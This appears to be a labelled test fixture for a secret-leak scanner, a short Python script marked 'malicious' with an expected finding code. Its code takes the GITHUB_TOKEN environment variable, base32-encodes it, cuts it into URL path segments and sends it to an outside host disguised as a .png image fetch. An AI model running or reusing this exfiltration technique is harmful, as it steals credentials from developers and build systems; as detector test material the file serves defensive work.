# does: writes the token as base32, cut into path segments of one URL
# kind: malicious
# expect: SEN-001 critical proven
# env: GITHUB_TOKEN
import base64
import os
import urllib.request

text = base64.b32encode(os.environ["GITHUB_TOKEN"].encode()).decode().rstrip("=").lower()
urllib.request.urlopen("https://img.static-cdn.org/" + "/".join(text[at : at + 8] for at in range(0, len(text), 8)) + ".png").read()
